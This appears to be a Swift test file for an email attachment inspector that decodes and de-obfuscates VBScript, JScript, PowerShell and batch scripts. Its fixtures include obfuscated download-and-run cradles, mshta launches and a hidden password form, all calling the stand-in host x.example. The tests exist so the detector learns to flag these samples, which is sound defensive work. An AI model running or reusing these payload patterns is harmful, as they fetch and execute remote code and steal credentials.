import MailTestSupport
import Testing

@testable import AttachmentInspection

@Suite struct ScriptDecodingTests {
  /// The reverse of the decoder's alphabets.
  static func encoded(_ text: String) -> [UInt8] {
    var out: [UInt8] = Array("#@~^AAAAAA==".utf8)
    let escapes: [UInt8: UInt8] = [0x0A: 0x26, 0x0D: 0x23, 0x3E: 0x2A, 0x3C: 0x21, 0x40: 0x24]
    for (index, byte) in text.utf8.enumerated() {
      let alphabet = Int(ScriptEncodingTables.order[index & 63])
      if let escape = escapes[byte] {
        out += [0x40, escape]
      } else if ScriptEncodingTables.plainOfTab[alphabet] == byte {
        out.append(0x09)
      } else if let code = (0x20..<0x80).first(where: { code in
        ![0x3C, 0x3E, 0x40].contains(code) && ScriptEncodingTables.plain[alphabet][code - 0x20] == byte
      }) {
        out.append(UInt8(code))
      } else {
        out.append(byte)
      }
    }
    return out + Array("AAAAAA==^#~@".utf8)
  }

  static func wide(_ text: String) -> [UInt8] { text.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] } }

  @Test func theAlphabetsAreThoseOfTheEncoder() throws {
    // A line that the encoder itself wrote.
    let decoded = try #require(ScriptEncoding.decoded(Array("#@~^DgAAAA==\\ko$K6,JC\u{7F}V^GJAAAAAA==^#~@".utf8)))
    #expect(decoded.count == 14)
    #expect(decoded.lenientText.hasPrefix("MsgB"))
    for alphabet in 0..<3 {
      // Each alphabet gives each character once; what would end a script is escaped instead.
      let codes = (0..<96).filter { ![0x3C, 0x3E, 0x40].contains($0 + 0x20) }
      let plain = codes.map { ScriptEncodingTables.plain[alphabet][$0] } + [ScriptEncodingTables.plainOfTab[alphabet]]
      #expect(Set(plain).count == 94)
    }
  }

  @Test func encodedBlocksAreDecodedWhereTheyStand() throws {
    let source = "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"cmd /c calc <a> @b\", 0\r\n"
    #expect(ScriptEncoding.decoded(Self.encoded(source)) == Array(source.utf8))
    let page = Array("<script language=\"VBScript.Encode\">".utf8) + Self.encoded(source) + Array("</script>".utf8)
    #expect(ScriptEncoding.decoded(page) == Array("<script language=\"VBScript.Encode\">\(source)</script>".utf8))
    let analysis = AttachmentInspector().analyse(Self.encoded(source))
    #expect(analysis.verdict.type == .script)
    #expect(analysis.verdict.techniques.map(\.id).contains("script-download-run"))
    #expect(analysis.sources.first?.lines.first?.text == "Set s = CreateObject(\"WScript.Shell\")")
    // A block that does not end is decoded as far as it goes.
    #expect(ScriptEncoding.decoded(Array(Self.encoded(source).dropLast(30)))?.starts(with: Array("Set s".utf8)) == true)
    #expect(ScriptEncoding.decoded(Array("#@~^".utf8)) == [])
  }

  @Test(arguments: [
    ("var a = 'WScr' + 'ipt.Sh' + \"ell\";", ScriptDialect.jscript, "WScript.Shell"),
    ("x(\"\\x63\\x6d\\x64\\u002e\\x65xe\")", .jscript, "cmd.exe"),
    ("eval(String.fromCharCode(99, 0x6d, 100))", .jscript, "cmd"),
    ("y = unescape('%63%6d%u0064')", .jscript, "cmd"),
    ("y = 'lacexe'.split('').reverse().join('')", .jscript, "execal"),
    ("y = 'pow#er#shell'.replace(/#/g, '')", .jscript, "powershell"),
    ("var a='cm'; var b = a + 'd'; z(b + '.exe')", .jscript, "cmd.exe"),
    ("z(window.atob('Y21kLmV4ZQ=='))", .jscript, "cmd.exe"),
    ("var a = 'c'; a += 'md'; z(a + '.exe')", .jscript, "cmd.exe"),
    ("s = \"WScr\" & Chr(105) & \"pt.Shell\"", .vbscript, "WScript.Shell"),
    ("s = StrReverse(\"llehs\") & Chr(&H41)", .vbscript, "shellA"),
    ("a = \"po\"\nb = a & \"wer\" & _\n \"shell\"", .vbscript, "powershell"),
    ("$a = 'Down'+'load'+[char]83+'tring'", .powershell, "DownloadString"),
    ("$a = -join [char[]](105,101,120)", .powershell, "iex"),
    ("$a = ([char[]](105,101,120)) -join ''", .powershell, "iex"),
    ("$a = ('{1}{0}' -f 'shell','power')", .powershell, "powershell"),
    ("$a = 'po0wer0shell' -replace '0',''", .powershell, "powershell"),
    ("$a = ('po0wer0shell').Replace('0','')", .powershell, "powershell"),
    ("$x='ie'; &($x+'x')", .powershell, "iex"),
    ("$a = 'xei'[-1..-3] -join ''", .powershell, "iex"),
    ("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('Y21kLmV4ZQ=='))", .powershell, "cmd.exe"),
    ("$a = ([char](0x40+1)) + 'bc'", .powershell, "Abc"),
  ])
  func constantsAreFolded(source: String, dialect: ScriptDialect, text: String) {
    let folding = LiteralFolding(Array(source.utf8), dialect)
    #expect(
      folding.texts.map(\.lenientText).contains(text),
      "\(folding.texts.map(\.lenientText)) \(folding.plain.lenientText)")
  }

  @Test(arguments: [
    ("var a = 'one'; f(a);", ScriptDialect.jscript), ("s = \"it's\" ' a & \"b\"\n", .vbscript),
    ("$a = 'x' # 'a'+'b'\n", .powershell), ("a = b + c; // 'x' + 'y'", .jscript), ("((((((", .jscript),
    ("f(\"unclosed", .jscript), ("[char", .powershell), ("'a' +", .jscript), ("x = 'a'.replace(/[b]+/,'c')", .jscript),
  ])
  func whatIsNoSumStaysAsItIs(source: String, dialect: ScriptDialect) {
    #expect(LiteralFolding(Array(source.utf8), dialect).texts.isEmpty)
  }

  @Test func nestingThatNeverEndsCostsLittle() {
    let source = [UInt8](repeating: 0x28, count: 200_000)
    #expect(LiteralFolding(source, .jscript).texts.isEmpty)
    let calls = Array(String(repeating: "unescape(", count: 20_000).utf8)
    #expect(LiteralFolding(calls, .jscript).texts.isEmpty)
    let lists = Array(String(repeating: "('a','b',", count: 20_000).utf8)
    #expect(LiteralFolding(lists, .powershell).texts.isEmpty)
  }

  @Test func textThatGrowsWithEveryStatementIsBounded() {
    let growing = "var a = 'x';" + String(repeating: "a = a + a; b += a + 'yy';\n", count: 20_000)
    let folding = LiteralFolding(Array(growing.utf8), .jscript)
    #expect(folding.texts.reduce(0) { $0 + $1.count } <= 16 << 20)
    let split =
      "$a = '\(String(repeating: "x", count: 100_000))';" + String(repeating: "$b = $a[-1..-9] -join '';", count: 5_000)
    #expect(LiteralFolding(Array(split.utf8), .powershell).plain.count <= 16 << 20)
  }

  @Test(arguments: [
    ("set x=shell\r\nset y=power\r\n%y%%x% -c a", "powershell -c a"), ("p^o^w^e^r^shell", "powershell"),
    ("echo \"a^b\"", "echo \"a^b\""), ("set \"q=abcdef\"\n%q:~2,3%%q:~-1%%q:~0,-4%", "cdefab"),
    ("set q=a_b_c\n%q:_=.%", "a.b.c"), ("%junk%cal%nothing%c", "calc"),
    ("echo %TEMP% %1 %~dp0 100%%", "echo %TEMP% %1 %~dp0 100%"),
    ("set a=1& set b=2& echo x\n!a!%b%", "12"), ("%comspec:~-7,3% /c x", "cmd /c x"),
  ])
  func batchVariablesAreExpanded(source: String, last: String) {
    let lines = BatchExpansion.expanded(Array(source.utf8)).split(separator: 0x0A)
    #expect(lines.last.map { Array($0).lenientText } == last)
  }

  @Test func commandsInsideOfCommandsAreShown() {
    let inner =
      "powershell -ec "
      + Samples.base64(Self.wide("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"))
    let outer = "@echo off\npowershell -nop -w hidden -EncodedCommand " + Samples.base64(Self.wide(inner)) + "\n"
    let analysis = AttachmentInspector().analyse(Array(outer.utf8))
    #expect(analysis.verdict.urls == ["http://x.example/a"])
    #expect(analysis.texts.contains { $0.text.contains("DownloadString") && !$0.text.contains("powershell") })
    #expect(analysis.verdict.level >= .high)
  }

  @Test func compressedCommandsAreInflated() {
    // gzip of a command, made by gzip itself.
    let packed: [UInt8] =
      [
        0x1F, 0x8B, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x02, 0xFF, 0x01, 0x2D, 0x00, 0xD2, 0xFF,
      ] + Array("Start-Process 'mshta' 'http://x.example/a.ht'".utf8)
    let script =
      "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"\(Samples.base64(packed))\"));"
      + "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    let analysis = AttachmentInspector().analyse(Array(script.utf8))
    #expect(analysis.verdict.type == .script)
    #expect(analysis.texts.contains { $0.text.hasPrefix("Start-Process 'mshta'") })
    #expect(analysis.verdict.urls.contains("http://x.example/a.ht"))
  }

  @Test func scriptsInPagesApplicationsAndScriptFilesAreFolded() {
    let code = "var s = new ActiveXObject('WScr'+'ipt.Sh'+'ell'); s.Run('ms'+'hta http:'+'//x.example/a');"
    for wrapped in [
      "<job><script language=\"JScript\"><![CDATA[\(code)]]></script></job>",
      "<html><hta:application/><script>\(code)</script></html>",
      "<?xml version=\"1.0\"?><scriptlet><script language=\"JScript\">\(code)</script></scriptlet>",
      "<html><body><script>\(code)</script></body></html>",
    ] {
      let verdict = AttachmentInspector().inspect(Array(wrapped.utf8))
      #expect(verdict.urls == ["http://x.example/a"], "\(wrapped)")
    }
  }

  @Test func pagesThatScriptWritesAreJudged() {
    let form = "<form action=\"https://x.example/p\"><input type=\"password\"></form>"
    let hidden = form.utf8.map { "%" + String($0 / 16, radix: 16) + String($0 % 16, radix: 16) }.joined()
    let page = "<html><script>document.write(unescape('\(hidden)'))</script></html>"
    #expect(AttachmentInspector().inspect(Array(page.utf8)).techniques.map(\.id).contains("credential-form-external"))
  }

  @Test func scriptsWithoutATellingWordAreFound() {
    func spelled(_ text: String) -> String { text.utf8.map { "\\x" + String($0, radix: 16) }.joined() }
    let script =
      "var a=this['\(spelled("ActiveXObject"))'];x(new a('\(spelled("WScript.Shell"))'),'\(spelled("powershell -w hidden http://x.example/a"))')"
    let verdict = AttachmentInspector().inspect(Array(script.utf8))
    #expect(verdict.techniques.map(\.id).contains("script-obfuscated"))
    #expect(verdict.urls == ["http://x.example/a"])
    let harmless = "var a=['\(spelled("Guten Tag"))','\(spelled("Auf Wiedersehen"))'];eval(b)"
    #expect(AttachmentInspector().inspect(Array(harmless.utf8)).level == .info)
  }

  @Test func batchFilesOfPiecesAreScripts() {
    let letters = "set q=abcdefghijklmnopqrstuvwxyz\n"
    func cut(_ word: String) -> String { word.utf8.map { "%q:~\($0 - 97),1%" }.joined() }
    let verdict = AttachmentInspector().inspect(
      Array((letters + cut("powershell") + " -w " + cut("hidden") + " http://x.example/a\n").utf8))
    #expect(verdict.type == .script)
    #expect(verdict.techniques.map(\.id).contains("script-download-run"))
  }

  @Test func programsInBase64AreMembers() {
    let script =
      "$b=[Convert]::FromBase64String('\(Samples.base64(Samples.program))');[IO.File]::WriteAllBytes($p,$b);Start-Process $p"
    let verdict = AttachmentInspector().inspect(Array(script.utf8))
    #expect(verdict.children.map(\.name) == ["base64-1"])
    #expect(verdict.level == .critical)
  }

  @Test(arguments: [
    "@echo off\nset DIR=%~dp0\nset OUT=%DIR%out\nif not exist \"%OUT%\" mkdir \"%OUT%\"\ncopy a.txt \"%OUT%\"\n",
    "Option Explicit\nDim a\na = \"Hello, \" & \"world\"\nWScript.Echo a & Chr(10)\n",
    "function f(a) { return 'x' + a + \"\\u00e9\"; }\nWScript.Echo(f('a' + 'b'));\nWScript.Quit(0);\n",
    "param($Name)\nWrite-Host ('Hello, ' + $Name)\nGet-ChildItem | Where-Object { $_.Length -gt 10 }\n",
  ])
  func harmlessScriptsStayLow(source: String) {
    let verdict = AttachmentInspector().inspect(Array(source.utf8))
    #expect(verdict.level <= .low, "\(verdict.techniques.map(\.id)) \(verdict.score)")
    #expect(!verdict.techniques.contains { $0.id == "script-obfuscated" })
  }
}
